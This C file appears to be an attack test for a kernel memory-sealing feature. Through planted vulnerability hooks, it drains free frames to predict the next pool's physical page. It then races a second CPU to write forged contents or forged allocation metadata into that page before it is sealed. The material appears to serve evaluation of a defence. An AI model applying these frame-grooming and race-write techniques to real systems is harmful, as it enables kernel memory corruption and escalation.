/*
 * A pool that is born sealed gives out objects that are zero: its pages were zeroed while another
 * processor could still store there. It stores into the object, or, by lot, into the
 * pool's notes on what is where, which lie in the page as well and are sealed with it.
 *
 * Pages of pools are free frames taken one by one, hidden ones first. A large pool takes all of
 * those; then each further frame is split off a block, lower half first. Where two pools got the
 * halves of a pair, and the next one the lower half of the pair behind it, the upper half is next.
 */
#include <string.h>
#include <x86intrin.h>

#include "attack.h"
#include "memory.h"

enum { CPU_OF_SEALER, CPU_OF_WRITER, NR_CPUS };
enum { STAGE_READY = 1, STAGE_PREDICTED, STAGE_OVER };
/* Frames that are on no list at the moment, and odd ones of the kernel's. */
enum { NR_MORE = 192, NR_LARGE_MAX = 2 };
enum { DESCRIPTOR_BYTES = 64 };

/* What the notes begin with: so many bytes are given out. The next object comes behind them. */
struct notes {
	uint32_t used_bytes, hole_bytes;
};
enum { USED_BYTES = 1024 };

static attack_stage stage;
static uint64_t target;
static union {
	char bytes[BW_COPY_BYTES];
	struct notes notes;
} forged = { "not what the pool's owner wrote" };

static void pool_born(uint64_t nr_pages, struct bw_sealed_object *object)
{
	long status = bw_vuln_pool_born(nr_pages, object);

	attack_check("vuln_pool_born", status);
	if (status < 0) {
		attack_skip("no pool to be had");
	}
}

/* Pools that take all frames that come before those of whole blocks. The first pool of an attack
 * has the kernel take back what the attacks before it left. */
static void take_odd_ones(void)
{
	struct bw_sealed_object object;
	uint64_t nr = NR_MORE;

	pool_born(1, &object);
	/* else pools are in the direct map, and hidden frames their last choice */
	if (bw_option_is("pmalloc", "full")) {
		nr += memory_now().nr_free_hidden;
	}
	for (int i = 0; i < NR_LARGE_MAX && nr; i++) {
		uint64_t nr_now = nr < BW_SEALED_PAGES ? nr : BW_SEALED_PAGES;

		pool_born(nr_now, &object);
		nr -= nr_now;
	}
}

/* Whether the frame behind the last one is next. */
static bool is_pair_begun(const uint64_t latest[3])
{
	return latest[0] % 2 == 0 && latest[1] == latest[0] + 1 && latest[2] == latest[1] + 1;
}

static bool is_same(uint64_t a, uint64_t b, uint64_t nr_bytes)
{
	return a / nr_bytes == b / nr_bytes;
}

/*
 * The next pool takes a frame for its page alone: its address, two pages on, is in the same page
 * table, its descriptors are in the page of the last one's. Else the next frame would be one of
 * these, and what is stored there the end of the machine.
 */
static bool is_page_next(const struct bw_sealed_object *last)
{
	return is_same(last->object, last->object + 2 * BW_PAGE_SIZE, BW_HUGE_PAGE_SIZE) &&
	       is_same(last->pool, last->pool + 3 * DESCRIPTOR_BYTES, BW_PAGE_SIZE);
}

/* The frame of the next pool, and where the direct map has its object. */
static uint64_t predict(uint64_t *synonym)
{
	struct bw_sealed_object object;
	uint64_t latest[3] = { 0 };

	take_odd_ones();
	do {
		pool_born(1, &object);
		latest[0] = latest[1];
		latest[1] = latest[2];
		latest[2] = object.pfn;
	} while (!is_pair_begun(latest) || !is_page_next(&object));
	*synonym = object.alias + BW_PAGE_SIZE;
	return object.pfn + 1;
}

static void writer(void *unused)
{
	(void)unused;
	attack_tell(&stage, STAGE_READY);
	attack_await(&stage, STAGE_PREDICTED, AWAIT_SPIN);
	attack_check("vuln_copy_on", bw_vuln_copy_on(target, forged.bytes));
	attack_tell(&stage, STAGE_OVER);
}

/* Where the pool's pages stay in the direct map, notes are forged only by luck. */
static bool aims_at_notes(void) { return __rdtsc() >> 8 & 1 && bw_option_is("pmalloc", "full"); }

static void aim_at_notes(void)
{
	memset(&forged, 0, sizeof(forged));
	forged.notes.used_bytes = USED_BYTES;
	target -= target % BW_PAGE_SIZE;
	attack_say("its notes are to say that %d bytes of it are in use", USED_BYTES);
}

int main(void)
{
	struct bw_sealed_object object;
	struct bw_leak leak;
	bool is_for_notes;
	uint64_t pfn;

	attack_begin(&leak, NR_CPUS, CPU_OF_SEALER);
	is_for_notes = aims_at_notes();
	attack_thread(CPU_OF_WRITER, writer, NULL);
	/* All that comes behind the prediction once before it: a page that is touched for the first
	 * time would be the next one. */
	attack_await(&stage, STAGE_READY, AWAIT_YIELD);
	attack_say("%lu frames are hidden; pools are to have them all",
		   memory_now().nr_free_hidden);
	pfn = predict(&target);
	attack_say("frame 0x%lx is the kernel's, and will be the next pool's", pfn);
	if (is_for_notes) {
		aim_at_notes();
	}
	attack_tell(&stage, STAGE_PREDICTED);
	attack_await_parked(1);
	attack_say("CPU %d stores there, at 0x%lx, again and again", CPU_OF_WRITER, target);
	pool_born(1, &object);
	bw_vuln_unpark(false);
	attack_await(&stage, STAGE_OVER, AWAIT_YIELD);
	if (object.pfn != pfn) {
		attack_skip("the pool's page came from elsewhere");
	}
	return attack_finish();
}
